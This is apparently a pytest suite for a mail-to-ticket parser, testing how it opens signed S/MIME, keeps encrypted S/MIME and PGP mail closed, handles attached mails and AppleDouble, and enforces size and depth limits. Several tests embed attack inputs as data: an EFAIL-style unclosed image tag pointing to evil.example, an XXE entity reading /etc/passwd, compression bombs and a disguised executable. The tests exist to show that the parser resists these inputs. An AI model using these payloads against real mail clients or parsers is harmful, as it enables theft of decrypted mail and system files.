"""Opaque S/MIME is opened (F5) and not believed; what is encrypted stays closed (X23)."""

from __future__ import annotations

import zlib
from base64 import encodebytes
from collections.abc import Callable

import pytest
from growth import assert_linear
from hypothesis import given
from hypothesis import strategies as st
from packing import (
    AUTHENTICATED,
    COMPRESSED,
    DATA,
    ENCRYPTED,
    ENVELOPED,
    ber,
    cms,
    der,
    mixed,
    octets,
    part,
)

from mail2ticket.model.limits import Limits
from mail2ticket.model.message import Message, Structure
from mail2ticket.parse import parse
from mail2ticket.parse.unpack.cms import Kind, read_shell

ENTITY = (
    b"Content-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\nContent-Type: text/plain\r\n\r\n"
    b"Please call me.\r\n--i\r\nContent-Type: application/pdf; name=offer.pdf\r\n\r\n"
    b"%PDF\r\n--i--\r\n"
)


def smime(
    content: bytes, kind: str = "application/pkcs7-mime", name: str = "smime.p7m"
) -> Message:
    head = b"From: Ada <ada@client.example>\nSubject: Signed\nMIME-Version: 1.0\n"
    return parse(head + part(kind, content, name))


def names(message: Message) -> list[str]:
    return [file.filename for file in message.attachments]


def codes(message: Message) -> set[str]:
    return {str(defect.code) for defect in message.defects}


@pytest.mark.parametrize("kind", ["application/pkcs7-mime", "application/x-pkcs7-mime"])
@pytest.mark.parametrize("piece", [0, 7, 1_000])
def test_what_was_signed_is_read_as_if_it_stood_there(kind: str, piece: int) -> None:
    message = smime(cms(ENTITY, piece=piece), kind)

    assert message.body.text == "Please call me."
    assert names(message) == ["offer.pdf"]
    assert [file.filename for file in message.containers] == ["smime.p7m"]
    assert message.structure == Structure(
        kind,
        (Structure("multipart/mixed", (Structure("text/plain"), Structure("application/pdf"))),),
    )
    assert "unchecked_signature" in codes(message)
    assert "damaged_container" not in codes(message)


@pytest.mark.parametrize(
    ("kind", "name"),
    [
        ("application/octet-stream", "smime.p7m"),
        ("application/octet-stream", "SMIME.P7M"),
        ("application/pkcs7-mime", ""),
        ("application/pkcs7-mime; smime-type=signed-data", "smime.p7m"),
        ("Application/PKCS7-MIME", "smime.p7m"),
    ],
)
def test_it_is_known_by_its_type_or_by_its_name(kind: str, name: str) -> None:
    assert names(smime(cms(ENTITY), kind, name)) == ["offer.pdf"]


ARMOURS: list[Callable[[bytes], bytes]] = [
    lambda raw: b"-----BEGIN PKCS7-----\n" + encodebytes(raw) + b"-----END PKCS7-----\n",
    encodebytes,
]


@pytest.mark.parametrize("wrap", ARMOURS)
def test_a_shell_in_armour_is_opened(wrap: Callable[[bytes], bytes]) -> None:
    long = ENTITY + b"x" * 20_000

    assert names(smime(wrap(cms(long)))) == ["offer.pdf"]


def test_a_signed_part_beside_others_is_opened_in_its_place() -> None:
    message = parse(
        mixed(
            b"Content-Type: image/gif; name=a.gif\n\nx",
            part("application/pkcs7-mime", cms(ENTITY), "smime.p7m"),
            b"Content-Type: image/gif; name=z.gif\n\nx",
        )
    )

    assert message.body.text.split() == ["Hello", "Please", "call", "me."]
    assert names(message) == ["a.gif", "offer.pdf", "z.gif"]


def test_a_signature_around_a_signature_is_opened_too() -> None:
    inner = part("application/pkcs7-mime", cms(ENTITY), "smime.p7m")

    message = smime(cms(inner, piece=64))

    assert names(message) == ["offer.pdf"]
    assert len(message.containers) == 2


@pytest.mark.parametrize("kind", [ENVELOPED, ENCRYPTED, AUTHENTICATED])
def test_what_is_encrypted_stays_closed_x23(kind: str) -> None:
    message = smime(cms(ENTITY, kind))

    assert names(message) == ["smime.p7m"]
    assert message.body.text == ""
    assert codes(message) >= {"encrypted"}
    assert "unchecked_signature" not in codes(message)


def test_pgp_mime_stays_closed_x23() -> None:
    message = parse(
        b"From: a@b.example\nContent-Type: multipart/encrypted; boundary=b\n\n"
        b"--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n"
        b"--b\nContent-Type: application/octet-stream; name=encrypted.asc\n\nsecret\n--b--\n"
    )

    assert names(message)[1] == "encrypted.asc"
    assert message.body.text == ""
    assert "encrypted" in codes(message)


@pytest.mark.parametrize(
    ("text", "is_encrypted"),
    [
        (b"-----BEGIN PGP MESSAGE-----\n\nhQ==\n-----END PGP MESSAGE-----\n", True),
        (b"\n-----BEGIN PGP MESSAGE-----\n", True),
        (b"-----BEGIN PGP SIGNED MESSAGE-----\n", False),
        (b"Why do I get -----BEGIN PGP MESSAGE----- from you?\n", False),
    ],
)
def test_pgp_in_the_text_is_marked_x23(text: bytes, *, is_encrypted: bool) -> None:
    assert ("encrypted" in codes(parse(mixed(text=text)))) is is_encrypted


def test_no_part_carries_off_the_words_of_another_x23() -> None:
    """EFAIL: HTML that is left open around a part that a mail program would decrypt."""
    message = parse(
        mixed(
            b'Content-Type: text/html\n\n<img src="https://evil.example/',
            part(
                "application/pkcs7-mime", cms(b"Content-Type: text/html\n\n<p>secret</p>"), "a.p7m"
            ),
            part("application/pkcs7-mime", cms(b"secret", ENVELOPED), "b.p7m"),
            b'Content-Type: text/html\n\n">',
        )
    )

    assert message.body.html == '<img src="https://evil.example/'
    assert "b.p7m" in names(message)


@pytest.mark.parametrize(
    ("name", "inner", "media_type"),
    [
        ("fattura.xml.p7m", b"<?xml version='1.0'?><Fattura/>", "application/xml"),
        ("Offer 7.pdf.p7m", b"%PDF-1.7", "application/pdf"),
        ("a.unknown.P7M", b"\x00\x01", "application/octet-stream"),
    ],
)
def test_a_signed_document_is_a_file_beside_its_shell(
    name: str, inner: bytes, media_type: str
) -> None:
    message = parse(mixed(part("application/octet-stream", cms(inner), name)))

    shell, document = message.attachments
    assert shell.filename == name
    assert (document.filename, document.content) == (name[:-4], inner)
    assert (document.media_type, document.packed_in) == (media_type, name)
    assert "unchecked_signature" in codes(message)


def test_xml_in_a_signed_document_is_never_parsed_x16() -> None:
    bomb = b'<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d SYSTEM "file:///etc/passwd">]><a>&b;&d;</a>'

    assert (
        parse(mixed(part("application/pkcs7-mime", cms(bomb), "a.xml.p7m"))).attachments[1].content
        == bomb
    )


def test_what_was_signed_without_a_header_is_text() -> None:
    assert smime(cms(b"\r\nJust words\r\n")).body.text.strip() == "Just words"


@pytest.mark.parametrize("content", [None, b""])
def test_a_signature_alone_is_a_file(content: bytes | None) -> None:
    message = smime(cms(content))

    assert names(message) == ["smime.p7m"]
    assert "damaged_container" not in codes(message)


def test_what_was_compressed_is_read() -> None:
    packed = zlib.compress(ENTITY)
    shell = der(
        0x30,
        der(0x02, b"\0"),
        der(0x30, b""),
        der(0x30, der(0x06, b"x"), der(0xA0, octets(packed))),
    )
    message = smime(der(0x30, der(0x06, bytes.fromhex(COMPRESSED)), der(0xA0, shell)))

    assert message.body.text == "Please call me."
    assert "unchecked_signature" not in codes(message)


def compressed(packed: bytes) -> bytes:
    shell = der(
        0x30,
        der(0x02, b"\0"),
        der(0x30, b""),
        der(0x30, der(0x06, b"x"), der(0xA0, octets(packed))),
    )
    return der(0x30, der(0x06, bytes.fromhex(COMPRESSED)), der(0xA0, shell))


def test_a_bomb_of_compressed_mail_does_not_go_off_x17() -> None:
    packed = zlib.compress(bytes(30_000_000))

    message = smime(compressed(packed))

    assert message.excess is not None
    assert message.excess.limit == "attachments_bytes"
    assert message.body.text == ""


@pytest.mark.parametrize(
    ("raw", "kind", "content", "is_whole"),
    [
        (cms(b"abc"), Kind.SIGNED, b"abc", True),
        (cms(b"abc", piece=1), Kind.SIGNED, b"abc", True),
        (cms(b"x" * 300), Kind.SIGNED, b"x" * 300, True),
        (cms(None), Kind.SIGNED, None, True),
        (cms(b"abc", DATA), Kind.OTHER, None, True),
        (cms(b"abc", ENVELOPED), Kind.ENCRYPTED, None, True),
        (cms(b"x" * 300)[:200], Kind.SIGNED, b"x" * 127, False),
        (cms(b"abcdef", piece=2)[:62], Kind.SIGNED, None, False),
        (cms(b"abc")[:20], Kind.OTHER, None, False),
        (b"", Kind.OTHER, None, False),
        (b"\x30", Kind.OTHER, None, False),
        (b"\x30\x80", Kind.OTHER, None, False),
        (b"\x30\x89" + b"\xff" * 9, Kind.OTHER, None, False),
        (b"\x30\x88" + bytes(4), Kind.OTHER, None, False),
        (b"\x04\x80\x00\x00", Kind.OTHER, None, False),
        (b"\x3f\x81\x01\x00", Kind.OTHER, None, False),
        (b"\x30\x84\xff\xff\xff\xff" + cms(b"abc")[2:], Kind.SIGNED, b"abc", True),
        (der(0x30, der(0x06, b"x" * 300)), Kind.OTHER, None, False),
        (der(0x30, ber(0x06, b"x")), Kind.OTHER, None, False),
        (compressed(b"no zlib"), Kind.COMPRESSED, None, False),
        (compressed(zlib.compress(b"abc")[:-4]), Kind.COMPRESSED, b"abc", False),
    ],
)
def test_a_shell_is_read_as_far_as_it_goes(
    raw: bytes, kind: Kind, content: bytes | None, is_whole: bool
) -> None:
    shell = read_shell(raw, 1_000)

    assert shell.kind is kind
    if content is not None:
        assert shell.content is not None
        assert shell.content.startswith(content)
    assert shell.is_whole is is_whole


def test_octet_strings_in_octet_strings_are_put_together() -> None:
    inner = der(0x24, der(0x04, b"a"), ber(0x24, der(0x04, b"b"), der(0x04, b"c")))
    content = ber(0x24, inner, der(0x04, b"d"))
    signed = ber(0x30, der(0x02, b"\1"), ber(0x31), ber(0x30, der(0x06, b"x"), ber(0xA0, content)))
    shell = read_shell(
        ber(0x30, der(0x06, bytes.fromhex("2a864886f70d010702")), ber(0xA0, signed)), 9
    )

    assert (shell.content, shell.is_whole) == (b"abcd", True)


@pytest.mark.parametrize(
    ("pieces", "content"), [((b"a", b"b"), b"ab"), ((b"a",), b"a"), ((), b"")]
)
def test_pieces_may_stand_in_a_string_of_definite_length(
    pieces: tuple[bytes, ...], content: bytes
) -> None:
    string = der(0x24, *(der(0x04, piece) for piece in pieces))
    after = der(0x04, b"none of it")
    signed = der(
        0x30,
        der(0x02, b"\1"),
        der(0x31),
        der(0x30, der(0x06, b"x"), der(0xA0, string), after),
    )
    raw = der(0x30, der(0x06, bytes.fromhex("2a864886f70d010702")), der(0xA0, signed))

    assert read_shell(raw, 99) == (Kind.SIGNED, content, True, False)


@pytest.mark.parametrize(
    "strange",
    [der(0x0C, b"text"), b"\0\0", ber(0x24, b"\0\0", b"\0\0"), b"\x24\x80" * 80, b"\x04"],
)
def test_what_is_no_octet_string_ends_the_content(strange: bytes) -> None:
    signed = ber(
        0x30, der(0x02, b"\1"), ber(0x31), ber(0x30, der(0x06, b"x"), b"\xa0\x80" + strange)
    )
    raw = ber(0x30, der(0x06, bytes.fromhex("2a864886f70d010702")), ber(0xA0, signed))

    assert not read_shell(raw, 9).content


def test_damage_is_told_and_the_shell_stays() -> None:
    message = smime(cms(ENTITY)[: len(ENTITY) + 20])

    assert "damaged_container" in codes(message)
    assert "smime.p7m" in names(message)
    assert message.containers == ()
    assert message.body.text == "Please call me."
    assert message.forward is None


def test_a_shell_over_the_limit_is_an_excess() -> None:
    content = b"Content-Type: text/plain\n\n" + b"x" * 74
    raw = b"From: a@b.example\n" + part("application/pkcs7-mime", cms(content), "smime.p7m")

    at = parse(raw, limits=Limits(attachments_bytes=100))
    over = parse(raw, limits=Limits(attachments_bytes=99))

    assert at.excess is None
    assert over.excess is not None
    assert over.excess.limit == "attachments_bytes"


def shells(depth: int) -> bytes:
    content = b"Content-Type: text/plain\n\ndeep"
    for _ in range(depth):
        content = b"Content-Type: application/pkcs7-mime\n\n" + cms(content)
    return content


def test_shells_in_shells_count_against_the_depth() -> None:
    at = parse(b"From: a@b.example\n" + shells(6), limits=Limits(depth=5))
    over = parse(b"From: a@b.example\n" + shells(7), limits=Limits(depth=5))

    assert at.excess is None
    assert at.body.text == "deep"
    assert over.excess is not None
    assert over.excess.limit == "depth"


def test_parts_in_shells_count_against_the_parts() -> None:
    assert parse(b"From: a@b.example\n" + shells(3), limits=Limits(parts=3)).excess is None
    over = parse(b"From: a@b.example\n" + shells(3), limits=Limits(parts=2)).excess
    assert over is not None
    assert over.limit == "parts"


@pytest.mark.parametrize("most", [60, 100])
def test_signed_documents_count_together_against_the_limit(most: int) -> None:
    document = part("application/octet-stream", cms(b"x" * 80), "a.pdf.p7m")

    found = parse(mixed(document, document), limits=Limits(attachments_bytes=most))

    assert len(parse(mixed(document, document)).attachments) == 4
    assert found.excess is not None
    assert found.excess.limit == "attachments_bytes"


def test_an_encoded_multipart_over_the_limit_is_an_excess() -> None:
    raw = b"Content-Type: multipart/mixed; boundary=i\nContent-Transfer-Encoding: base64\n\n"
    inside = b"--i\n\nwords\n--i--\n"

    found = parse(b"A: b\n" + raw + encodebytes(inside), limits=Limits(attachments_bytes=9))

    assert found.excess is not None
    assert found.excess.limit == "attachments_bytes"


SAMPLE = cms(ENTITY, piece=50)


@given(st.lists(st.tuples(st.integers(0, len(SAMPLE) - 1), st.integers(0, 255)), max_size=8))
def test_no_damage_of_a_shell_breaks_a_mail(changes: list[tuple[int, int]]) -> None:
    content = bytearray(SAMPLE)
    for at, value in changes:
        content[at] = value

    message = smime(bytes(content))

    assert "unreadable" not in codes(message)
    assert message.containers or message.attachments or message.excess


@given(st.binary(max_size=200))
def test_no_bytes_break_the_reader_of_shells(raw: bytes) -> None:
    head = b"\x30\x80\x06\x09" + bytes.fromhex("2a864886f70d010702")

    read_shell(raw, 100)
    read_shell(head + raw, 100)
    read_shell(head + b"\xa0\x80\x30\x80\x02\x01\x01\x31\x00\x30\x80\x06\x01x\xa0\x80" + raw, 100)


GROWING: list[Callable[[int], bytes]] = [
    lambda n: cms(b"x" * n),
    lambda n: cms(b"x" * n, piece=1),
    lambda n: cms(b"x", piece=1)[:58] + b"\x24\x80" * n,
    lambda n: b"\x30\x80" * n,
    lambda n: ber(
        0x30, der(0x06, bytes.fromhex("2a864886f70d010702")), ber(0xA0, b"\x30\x80" * n)
    ),
]


@pytest.mark.parametrize("make", GROWING)
def test_reading_shells_grows_with_them_and_no_faster(make: Callable[[int], bytes]) -> None:
    assert_linear(lambda raw: read_shell(raw, 10**9), make, 10_000)


# --- mails in mails -----------------------------------------------------------------------

MAIL = b"From: Bo <bo@far.example>\nTo: ada@client.example\nSubject: Old\n\nOld words\n"


@pytest.mark.parametrize(
    "attached",
    [
        b"Content-Type: message/rfc822\n\n" + MAIL,
        part("message/rfc822", MAIL),
        part("message/rfc822", MAIL, "old.eml"),
        part("message/global", MAIL),
        b"Content-Type: message/rfc822\nContent-Transfer-Encoding: quoted-printable\n\n"
        + MAIL.replace(b"=", b"=3D"),
        # It says base64, and is not.
        b"Content-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\n" + MAIL,
        part("application/octet-stream", MAIL, "old.eml"),
    ],
)
def test_an_attached_mail_is_a_file_and_a_forward(attached: bytes) -> None:
    message = parse(mixed(attached))

    (file,) = message.attachments
    assert file.content.rstrip() == MAIL.rstrip()
    assert message.forward is not None
    assert str(message.forward.sender) == "Bo <bo@far.example>"
    assert message.forward.text.strip() == "Old words"
    assert message.body.text == "Hello\n"


def test_an_encoded_mail_without_a_name_is_named_by_its_subject() -> None:
    assert names(parse(mixed(part("message/rfc822", MAIL)))) == ["Old.eml"]


@pytest.mark.parametrize(
    "attached",
    [
        part("application/octet-stream", b"\x00\x01\x02 no mail", "old.eml"),
        part("application/octet-stream", MAIL, "old.txt"),
        part("application/octet-stream", MAIL),
    ],
)
def test_what_is_no_mail_is_no_forward(attached: bytes) -> None:
    message = parse(mixed(attached))

    assert message.forward is None
    assert len(message.attachments) == 1


def test_the_files_of_an_attached_mail_are_its_own() -> None:
    inner = mixed(b"Content-Type: application/pdf; name=a.pdf\n\n%PDF")

    message = parse(mixed(part("message/rfc822", inner, "old.eml")))

    assert names(message) == ["old.eml"]
    assert message.forward is not None
    assert [file.filename for file in message.forward.attachments] == ["a.pdf"]


def test_a_multipart_that_is_encoded_is_read() -> None:
    inside = b"--i\nContent-Type: text/plain\n\nwords\n--i\nContent-Type: image/gif\n\nx\n--i--\n"
    raw = b"Content-Type: multipart/mixed; boundary=i\nContent-Transfer-Encoding: base64\n\n"

    message = parse(b"From: a@b.example\n" + raw + encodebytes(inside))

    assert message.body.text == "words"
    assert names(message) == ["image.gif"]
    assert "encoded_multipart" in codes(message)


def test_mails_in_encoded_mails_count_against_the_depth() -> None:
    mail = MAIL
    for _ in range(12):
        mail = mixed(part("message/rfc822", mail))

    found = parse(mail, limits=Limits(depth=8))

    assert found.excess is not None
    assert found.excess.limit == "depth"


# --- AppleDouble --------------------------------------------------------------------------


def double(*parts: bytes) -> Message:
    inside = b"".join(b"--d\n" + one + b"\n" for one in parts)
    return parse(
        mixed(b"Content-Type: multipart/appledouble; boundary=d\n\n" + inside + b"--d--\n")
    )


def test_the_data_fork_of_an_appledouble_is_the_file() -> None:
    half = b"Content-Type: application/applefile; name=plan.pdf\n\n\x00\x05\x16\x07"
    whole = b"Content-Type: application/pdf; name=plan.pdf\n\n%PDF"

    message = double(half, whole)

    assert [(file.filename, file.content) for file in message.attachments] == [
        ("plan.pdf", b"%PDF")
    ]
    assert [file.media_type for file in message.containers] == ["application/applefile"]
    assert names(double(half)) == ["plan.pdf"]
    assert names(double(whole, half)) == ["plan.pdf", "plan.pdf"]


def test_what_calls_itself_an_appledouble_and_is_none_is_a_file() -> None:
    """X12: a program in the place of the half that nobody shows stays in sight."""
    half = b"Content-Type: application/applefile; name=plan.exe\n\nMZ"
    whole = b"Content-Type: application/pdf; name=plan.pdf\n\n%PDF"

    assert names(double(half, whole)) == ["plan.exe", "plan.pdf"]


def test_what_is_compressed_a_thousand_times_is_a_bomb() -> None:
    """X17: 20 KB may not stand for 20 MB; a letter may be compressed a little more than usual."""
    bomb = compressed(zlib.compress(b"Content-Type: text/plain\n\n" + b"a" * 15_000_000))
    usual = compressed(zlib.compress(b"Content-Type: text/plain\n\n" + b"a" * 1_000_000))

    assert read_shell(bomb, 20_000_000).is_over
    assert read_shell(usual, 20_000_000).is_whole
